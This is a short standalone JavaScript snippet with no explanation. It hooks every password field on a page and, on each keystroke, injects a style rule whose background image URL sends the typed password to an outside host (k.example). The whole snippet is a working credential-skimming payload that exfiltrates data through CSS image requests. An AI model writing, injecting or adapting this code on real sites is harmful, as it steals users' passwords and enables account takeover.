document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('input', () => {
  const s = document.createElement('style');
  s.textContent = `body{background:url(https://k.example/${encodeURIComponent(i.value)})}`;
  document.head.append(s);
}));
